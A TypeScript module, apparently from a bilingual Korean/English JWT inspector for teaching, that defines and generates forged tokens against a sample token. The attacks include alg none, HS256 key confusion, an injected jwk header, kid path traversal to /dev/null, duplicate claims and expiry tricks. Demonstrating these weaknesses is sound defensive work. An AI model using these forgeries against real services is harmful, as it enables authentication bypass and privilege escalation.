import type { Inspected } from "./inspector.ts";
import { LAST_DATE } from "./lang.ts";
import { newSigner } from "./sample.ts";
import { base64url, bytesOf, decoded, segmentOf, textOf, type Members } from "./token.ts";

/** A token of an attacker. */
export interface AttackToken {
  token: string;
  /** When it is verified, as a Unix time in seconds; the time of the inspector if undefined. */
  now?: number;
}

export interface Attack {
  id: string;
  /** Korean, English. */
  name: readonly [string, string];
  idea: readonly [string, string];
  /** The attack needs a signature of the issuer, which is available for the example only. */
  signed?: true;
  /** Why the attack may not be applicable, in Korean and English. */
  whyNot?: readonly [string, string];
  /** Returns undefined or throws when the attack is not applicable to the token. */
  apply(target: Target): AttackToken | undefined | Promise<AttackToken | undefined>;
}

/** The parts of the token under attack. */
interface Target {
  token: string;
  keys: string;
  refresh: string | undefined;
  /** Base64url segments. */
  head: string;
  body: string;
  signature: string;
  header: Members;
  claims: Members;
  /** Signs as the issuer; without its key, returns the payload with the old signature. */
  sign(payload: string): Promise<string>;
}

/** The alphabet of base64url. */
const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

export const ATTACKS: readonly Attack[] = [
  {
    id: "none",
    name: ["alg: none", "alg: none"],
    idea: [
      "서명이 필요 없다고 토큰 스스로 말합니다.",
      "The token claims that it needs no signature.",
    ],
    apply: ({ header, body }) => ({ token: `${segmentOf({ ...header, alg: "none" })}.${body}.` }),
  },
  {
    id: "none-case",
    name: ["alg: nOnE", "alg: nOnE"],
    idea: ['"none"만 막는 검사를 대소문자로 피합니다.', 'Evades a check for the spelling "none".'],
    apply: ({ header, body, signature }) => ({
      token: `${segmentOf({ ...header, alg: "nOnE" })}.${body}.${signature}`,
    }),
  },
  {
    id: "hs256",
    name: ["공개 키로 HS256", "HS256 with the public key"],
    idea: [
      "모두가 아는 공개 키를 HMAC 비밀로 써서 서명합니다.",
      "Signs by HMAC with the public key as the secret.",
    ],
    apply: async ({ header, claims, keys }) => {
      const [head, body] = [
        { ...header, alg: "HS256" },
        { ...claims, role: "admin" },
      ];
      const input = `${segmentOf(head)}.${segmentOf(body)}`;
      const secret = await crypto.subtle.importKey(
        "raw",
        utf8(keys),
        { name: "HMAC", hash: "SHA-256" },
        false,
        ["sign"],
      );
      const mac = await crypto.subtle.sign("HMAC", secret, utf8(input));
      return { token: `${input}.${base64url(new Uint8Array(mac))}` };
    },
  },
  {
    id: "promote",
    name: ["role을 admin으로", "role to admin"],
    idea: ["클레임을 바꾸고 서명은 그대로 둡니다.", "Changes a claim and keeps the signature."],
    apply: ({ head, claims, signature }) => ({
      token: `${head}.${segmentOf({ ...claims, role: "admin" })}.${signature}`,
    }),
  },
  {
    id: "flip",
    name: ["서명 1비트 뒤집기", "One flipped bit"],
    idea: ["서명에서 단 한 비트만 다릅니다.", "Changes a single bit of the signature."],
    apply: ({ head, body, signature }) => {
      const [first, ...others] = bytesOf(signature);
      return first === undefined
        ? undefined
        : { token: `${head}.${body}.${base64url(Uint8Array.of(first ^ 1, ...others))}` };
    },
  },
  {
    id: "trailing-bits",
    name: ["남는 base64 비트", "Trailing base64 bits"],
    idea: [
      "끝 글자의 쓰이지 않는 비트를 바꿉니다. 해독하면 같은 바이트라서, 글자로 막은 토큰이 되살아납니다.",
      "Changes the unused bits of the last letter. It decodes to the same bytes, so the token evades a blocklist of token texts.",
    ],
    whyNot: [
      "이 서명은 글자의 비트를 남김없이 쓰므로 바꿀 비트가 없습니다. 헤더와 내용의 글자는 서명이 지킵니다.",
      "This signature uses every bit of its letters, so there is none to change. The letters of header and payload are signed.",
    ],
    apply: ({ head, body, signature }) => {
      const letters = signature.replace(/[^A-Za-z0-9_-]+$/, "");
      // Four letters are three bytes.
      if (letters.length % 4 === 0) {
        return undefined;
      }
      const last = ALPHABET[ALPHABET.indexOf(letters.slice(-1)) ^ 1] ?? "";
      return { token: `${head}.${body}.${letters.slice(0, -1)}${last}` };
    },
  },
  {
    id: "padding",
    name: ["base64 채움 문자", "Base64 padding"],
    idea: [
      "끝에 =를 붙여 같은 토큰을 다른 글자로 씁니다.",
      "Appends =, which spells the same token differently.",
    ],
    apply: ({ token, signature }) => ({
      token: `${token}${"=".repeat(4 - (signature.length % 4))}`,
    }),
  },
  {
    id: "embedded-key",
    name: ["헤더에 넣은 열쇠", "A key in the header"],
    idea: [
      "공격자의 키로 서명하고, 그 공개 키를 헤더의 jwk에 넣습니다.",
      "Signs with the attacker's key and puts its public key into the header as jwk.",
    ],
    apply: async ({ header, claims }) => {
      const { sign, publicKey } = await newSigner();
      const { kty, n, e } = publicKey;
      return { token: await sign({ ...header, jwk: { kty, n, e } }, { ...claims, role: "admin" }) };
    },
  },
  {
    id: "kid",
    name: ["kid 주입", "kid injection"],
    idea: [
      "kid를 파일 경로로 바꿔 빈 파일을 키로 쓰게 합니다.",
      "Sets the kid to a path, so that an empty file is used as the key.",
    ],
    apply: ({ header, body, signature }) => ({
      token: `${segmentOf({ ...header, kid: "../../../../dev/null" })}.${body}.${signature}`,
    }),
  },
  {
    id: "crit",
    name: ["crit 확장", "The crit extension"],
    idea: [
      "검증기가 모르는 확장을 요구하고 무시되기를 바랍니다.",
      "Requires an unknown extension, which a verifier might ignore.",
    ],
    apply: ({ header, body, signature }) => ({
      token: `${segmentOf({ ...header, crit: ["b64"], b64: false })}.${body}.${signature}`,
    }),
  },
  {
    id: "duplicate-alg",
    name: ["두 번 적은 alg", "alg twice"],
    idea: [
      "앞의 값을 읽는 프로그램과 뒤의 값을 읽는 프로그램을 다르게 속입니다.",
      "Deceives programs that read the first value and those that read the last in different ways.",
    ],
    apply: ({ head, body, signature }) => {
      const text = replaceIfPresent(textOf(head), /^\s*\{/, '{"alg":"none",');
      return text === undefined ? undefined : { token: `${segmentOf(text)}.${body}.${signature}` };
    },
  },
  {
    id: "duplicate-role",
    name: ["두 번 적은 role", "role twice"],
    idea: [
      "role이 두 번 있습니다. 무엇이 맞을까요? 발급자가 서명까지 했습니다.",
      "Has two roles, signed by the issuer. Which one counts?",
    ],
    signed: true,
    apply: async ({ body, sign }) => {
      const text = replaceIfPresent(textOf(body), /\}\s*$/, ',"role":"student","role":"admin"}');
      return text === undefined ? undefined : { token: await sign(text) };
    },
  },
  {
    id: "wrong-type",
    name: ["refresh 토큰 쓰기", "The refresh token"],
    idea: [
      "하루 동안 쓸 수 있는 refresh 토큰을 access 토큰 자리에 냅니다.",
      "Presents the long-lived refresh token as an access token.",
    ],
    signed: true,
    apply: async ({ claims, refresh, sign }) => ({
      token: refresh ?? (await sign(JSON.stringify({ ...claims, token_type: "refresh" }))),
    }),
  },
  {
    id: "expired",
    name: ["만료된 토큰", "Expired"],
    idea: [
      "만료되는 바로 그 초에 같은 토큰을 냅니다.",
      "Presents the token in the second in which it expires.",
    ],
    apply: ({ token, claims: { exp } }) =>
      typeof exp === "number" && exp <= LAST_DATE ? { token, now: Math.max(0, exp) } : undefined,
  },
  {
    id: "no-exp",
    name: ["exp 없는 토큰", "No exp"],
    idea: ["만료 시각을 빼서 영원히 쓰려 합니다.", "Omits the expiry, to be valid forever."],
    signed: true,
    apply: async ({ claims, sign }) => {
      const { exp: _, ...others } = claims;
      return { token: await sign(JSON.stringify(others)) };
    },
  },
  {
    id: "huge-exp",
    name: ["exp: 1e400", "exp: 1e400"],
    idea: [
      "만료 시각을 무한대로 읽히는 수로 적습니다.",
      "Has an expiry that many programs read as infinity.",
    ],
    signed: true,
    apply: async ({ body, sign }) => {
      const text = replaceIfPresent(textOf(body), /"exp"\s*:\s*[0-9.]+/, '"exp":1e400');
      return text === undefined ? undefined : { token: await sign(text) };
    },
  },
  {
    id: "no-signature",
    name: ["서명 떼기", "No signature"],
    idea: ["서명 부분을 비웁니다.", "Removes the signature."],
    apply: ({ head, body }) => ({ token: `${head}.${body}.` }),
  },
  {
    id: "swapped",
    name: ["헤더와 내용 바꾸기", "Header and payload swapped"],
    idea: ["두 부분의 자리를 바꿉니다.", "Swaps the two segments."],
    apply: ({ head, body, signature }) => ({ token: `${body}.${head}.${signature}` }),
  },
];

/** Applies an attack; returns undefined when it is not applicable to the token. */
export async function applyAttack(
  attack: Attack,
  inspected: Inspected,
): Promise<AttackToken | undefined> {
  const [head = "", body = "", signature = ""] = inspected.token.split(".");
  const { token, keys, refresh, sign } = inspected;
  const header = decoded(head) ?? {};
  try {
    return await attack.apply({
      token,
      keys,
      refresh,
      head,
      body,
      signature,
      header,
      claims: decoded(body) ?? {},
      sign: async (payload) =>
        sign === undefined ? `${head}.${segmentOf(payload)}.${signature}` : sign(header, payload),
    });
  } catch {
    // A segment that is not base64, such as a truncated one. The other attacks go on.
    return undefined;
  }
}

/** Whether the attack gets as far as its rule: some need a signature of the issuer. */
export function reachesItsRule(attack: Attack, { sign, refresh }: Inspected): boolean {
  return (
    attack.signed === undefined ||
    sign !== undefined ||
    (attack.id === "wrong-type" && refresh !== undefined)
  );
}

/** Returns undefined when the pattern does not match. */
function replaceIfPresent(text: string, pattern: RegExp, by: string): string | undefined {
  return pattern.test(text) ? text.replace(pattern, by) : undefined;
}

function utf8(text: string): Uint8Array<ArrayBuffer> {
  return new TextEncoder().encode(text);
}
